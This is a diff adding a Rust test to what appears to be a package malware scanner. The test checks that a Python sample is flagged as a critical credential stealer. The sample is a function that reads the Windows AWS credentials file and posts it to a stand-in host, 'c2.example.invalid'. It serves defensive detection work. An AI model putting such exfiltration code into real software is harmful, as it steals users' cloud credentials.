@@ -675,3 +675,22 @@ fn right_nested_sums_joined_flags_and_more_stores() {
     }
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+/// The data-flow clause reads locations as the rest of the rule does: a Windows path or a path
+/// component read into a variable and sent, inside a function nobody calls, is still a stealer.
+#[test]
+fn sent_locations_are_read_like_named_ones() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let src = "import os, requests\n\
+               def upload():\n\
+               \x20   key = open(os.environ['USERPROFILE'] + '\\\\.aws\\\\credentials').read()\n\
+               \x20   requests.post('https://c2.example.invalid/k', data=key)\n";
+    let p = package(dir.path(), "win-path", "sync.py", src);
+    let r = scan_file(&p, BudgetLimits::default());
+    assert_eq!(
+        worst(&r, "python-credential-stealer"),
+        Some(Severity::Critical),
+        "{:?}",
+        summary(&r)
+    );
+}
